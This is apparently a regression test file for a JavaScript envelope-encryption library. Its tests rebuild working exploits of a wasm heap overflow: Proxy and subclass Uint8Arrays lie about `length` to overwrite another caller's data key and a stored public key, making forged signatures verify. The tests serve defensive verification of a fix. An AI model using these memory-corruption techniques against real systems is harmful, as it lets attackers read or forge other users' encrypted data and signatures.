// Regression tests from an adversarial review (2026-12-02). Found then: what
// a caller's KMS keyring answered with reached the wasm-bindgen glue
// unnormalised. `bytesFromKms` (envelope.js) checked only
// `v instanceof Uint8Array`, which a Uint8Array subclass and a Proxy of a
// Uint8Array both pass; the glue then copies it in with
//   ptr = malloc(arg.length); memory.set(arg, ptr); WASM_VECTOR_LEN = arg.length
// reading `length` three times (a getter of the caller's) and, for a Proxy,
// every element through the caller's `get` trap. A `length` that reads 32 for
// malloc and more for `set` writes past the 32-byte block: a heap overflow in
// the envelope module's linear memory, driven by a value the threat model
// (SECURITY.md, "The page / runtime": Proxies, getters) does not trust.
// Now answers are read through internal slots (bytes.js `uint8View`), and
// every call into a module gets plain arguments (core.js `guard`).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes, generateKeyPairSync, sign } from 'node:crypto';
import v8 from 'node:v8';
import vm from 'node:vm';
import { EnvelopeClient, MultiKeyring, RawAesKeyring, EdgeKmsError, KmsPublicKey, signJwt } from '../../pkg/entry-node.js';
import * as envelopeGlue from '../../pkg/wasm/envelope.js';
import * as verifyGlue from '../../pkg/wasm/verify.js';

v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc');

const UNSIGNED = 'AES_256_GCM_HKDF_SHA512_COMMIT_KEY';
const kms = (key, extra = {}) => ({
  isKmsKeyring: true, keyId: 'k',
  async generateDataKey() { return { keyId: 'k', plaintext: new Uint8Array(key), ciphertextBlob: new Uint8Array([9]) }; },
  async decryptDataKey() { return { keyId: 'k', plaintext: new Uint8Array(key) }; },
  ...extra,
});

test('a KMS answer whose `length` lies (a Uint8Array subclass) is refused with a code, and does not restart the module under another caller\'s stream', async () => {
  class Lying extends Uint8Array { get length() { return 32; } } // really 2048 bytes
  const other = new EnvelopeClient({ keyring: new RawAesKeyring({ keyNamespace: 'ns', keyName: 'k', wrappingKey: new Uint8Array(32).fill(4) }), suite: UNSIGNED, engine: 'wasm' });
  const ts = other.encryptStream();
  const writer = ts.writable.getWriter();
  const chunks = [];
  const read = (async () => { for await (const c of ts.readable) chunks.push(c); })();
  read.catch(() => {}); // awaited below unless a write fails first
  await writer.write(new Uint8Array(5000).fill(1));
  const attacker = new EnvelopeClient({ keyring: kms(null, { async generateDataKey() { return { keyId: 'k', plaintext: new Lying(2048).fill(0x41), ciphertextBlob: new Uint8Array(3) }; } }), suite: UNSIGNED, engine: 'wasm' });
  const e = await attacker.encrypt('x').then(() => undefined, (x) => x);
  let victim;
  try {
    await writer.write(new Uint8Array(5000).fill(2));
    await writer.close();
    await read;
  } catch (x) { victim = x; }
  const diag = `attacker's encrypt: ${e?.code} ${e?.message} (cause: ${e?.cause}); the other caller's stream: ${victim ? `${victim.code} ${victim.message}` : 'completed'}`;
  assert.ok(e instanceof EdgeKmsError, `coded: ${e}`);
  assert.equal(victim, undefined, `another caller's stream in flight was broken. ${diag}`);
  assert.equal(e.code, 'INVALID_DATA_KEY', `the lying answer reached the glue. ${diag}`);
});

test('a KMS answer that is a Proxy of a Uint8Array cannot rewrite another caller\'s data key in flight', async () => {
  const mem = () => new Uint8Array(envelopeGlue.initSync().memory.buffer);
  const victimKey = randomBytes(32);
  let called; const childCalled = new Promise((r) => { called = r; });
  let go; const gate = new Promise((r) => { go = r; });
  // the victim: a KMS generator and a KMS child that takes a while (a network call)
  const victim = new EnvelopeClient({
    keyring: new MultiKeyring({ generator: kms(victimKey), children: [kms(victimKey, { async encryptDataKey() { called(); await gate; return { keyId: 'k', ciphertextBlob: new Uint8Array([8]) }; } })] }),
    suite: UNSIGNED, engine: 'wasm',
  });
  await new EnvelopeClient({ keyring: kms(randomBytes(32)), suite: UNSIGNED, engine: 'wasm' }).encrypt('warm');
  const victimDone = victim.encrypt("the victim's secret");
  await childCalled;
  // Where the victim's data key lies. The PoC reads it from the module's memory
  // for brevity; the layout is deterministic for a given build and sequence of
  // calls (and review-guard-facade.test.js shows a keyring Proxy can read it).
  const target = Buffer.from(mem()).indexOf(victimKey);
  assert.ok(target > 0);
  const attackerKey = Buffer.alloc(32, 0x5a);
  const marker = randomBytes(16);
  let reads = 0, ptr = -1, view;
  const span = 60_032; // reaches the target from any block at most 60000 bytes below it
  const answer = new Proxy(new Uint8Array(32), {
    get(t, p) {
      if (p === 'length') return ++reads === 2 ? span : 32; // malloc(32), set() copies `span`
      if (typeof p === 'string' && /^\d+$/.test(p)) {
        const k = Number(p);
        if (k < 16) return marker[k];
        if (k === 16) { view = mem(); ptr = Buffer.from(view.buffer).indexOf(marker); }
        if (k < 32) return 0x11;
        const at = ptr + k;
        if (at >= target && at < target + 32) return attackerKey[at - target];
        return view[at]; // every other byte written back as it is: the allocator notices nothing
      }
      const v = Reflect.get(t, p, t);
      return typeof v === 'function' ? v.bind(t) : v;
    },
  });
  const attacker = new EnvelopeClient({ keyring: kms(null, { async generateDataKey() { return { keyId: 'k', plaintext: answer, ciphertextBlob: new Uint8Array(3) }; } }), suite: UNSIGNED, engine: 'wasm' });
  const attackResult = await attacker.encrypt('x').then(() => 'succeeded', (e) => `${e.code}: ${e.message}`);
  go();
  const sealed = await victimDone;
  const opens = async (k) => new EnvelopeClient({ keyring: kms(k), suite: UNSIGNED, engine: 'native' }).decrypt(sealed)
    .then((r) => new TextDecoder().decode(r.plaintext), (e) => e.code);
  const byVictim = await opens(victimKey);
  const byAttacker = await opens(attackerKey);
  const diag = `attacker's encrypt ${attackResult}; its 32-byte block at ${ptr}, victim's data key at ${target}; victim's message opened by the victim: ${byVictim}; by the attacker's key: ${byAttacker}`;
  assert.notEqual(byAttacker, "the victim's secret", `the attacker chose the victim's data key. ${diag}`);
  assert.equal(byVictim, "the victim's secret", diag);
});

test("signJwt: a keyring's `signature` answer (a Proxy) cannot rewrite a live KmsPublicKey so that it accepts another key's signatures", async () => {
  // signJwt passes `answer.signature` straight to the verify module's glue
  // (b.jwsSignature); the same overflow lands in the verify module, where the
  // parsed public keys of every KmsPublicKey live.
  const mem = () => new Uint8Array(verifyGlue.initSync().memory.buffer);
  const pair = () => generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const spki = (k) => k.publicKey.export({ type: 'spki', format: 'der' });
  const victimPair = pair();
  const attackerPair = pair();
  // keys other requests parsed before the victim's and dropped since: their blocks are free below it
  let others = [];
  for (let i = 0; i < 20; i++) others.push(new KmsPublicKey(spki(pair())));
  const victimKey = new KmsPublicKey(spki(victimPair));
  others = null;
  for (let i = 0; i < 3; i++) { gc(); await new Promise((r) => setTimeout(r, 20)); }
  const msg = Buffer.from('the victim authorises transfer #1');
  const forged = sign('sha256', msg, attackerPair.privateKey);
  const accepts = (sig) => victimKey.verifySync({ signingAlgorithm: 'ECDSA_SHA_256', message: msg, signature: sig });
  assert.equal(accepts(forged), false);
  // Where the victim's point lies (read here for brevity; see the data-key test).
  const vp = spki(victimPair).subarray(-65);
  const ap = spki(attackerPair).subarray(-65);
  const heap = Buffer.from(mem());
  const targets = [];
  for (const [needle, with_] of [[vp, ap], [vp.subarray(1, 33), ap.subarray(1, 33)], [vp.subarray(33), ap.subarray(33)]]) {
    for (let i = heap.indexOf(needle); i !== -1; i = heap.indexOf(needle, i + 1)) targets.push([i, with_]);
  }
  const hi = Math.max(...targets.map(([i, w]) => i + w.length));
  const run = async (span) => {
    const marker = randomBytes(16);
    let reads = 0, ptr = -1, view;
    const signature = new Proxy(new Uint8Array(64), {
      get(t, p) {
        if (p === 'length') return ++reads === 2 ? span(ptr) : 64;
        if (typeof p === 'string' && /^\d+$/.test(p)) {
          const k = Number(p);
          if (k < 16) return marker[k];
          if (k === 16) { view = mem(); ptr = Buffer.from(view.buffer).indexOf(marker); }
          if (k < 64) return 1;
          const at = ptr + k;
          for (const [i, w] of targets) if (at >= i && at < i + w.length) return w[at - i];
          return view[at];
        }
        const v = Reflect.get(t, p, t);
        return typeof v === 'function' ? v.bind(t) : v;
      },
    });
    const keyring = { async sign() { return { signature, keyId: 'k', signingAlgorithm: 'ECDSA_SHA_256' }; } };
    const r = await signJwt({ sub: 'x' }, { keyring, alg: 'ES256' }).then(() => 'signed', (e) => e.code);
    return { r, ptr };
  };
  const probe = await run(() => 64); // an honest length: where does the block land?
  const attack = await run(() => hi - (probe.ptr - 64));
  const diag = `block at ${probe.ptr}, victim's point at ${targets.map(([i]) => i)}; signJwt answered ${attack.r}; afterwards the victim's KmsPublicKey accepts the attacker's signature: ${accepts(forged)}, the victim's own: ${accepts(sign('sha256', msg, victimPair.privateKey))}`;
  assert.equal(accepts(forged), false, diag);
});
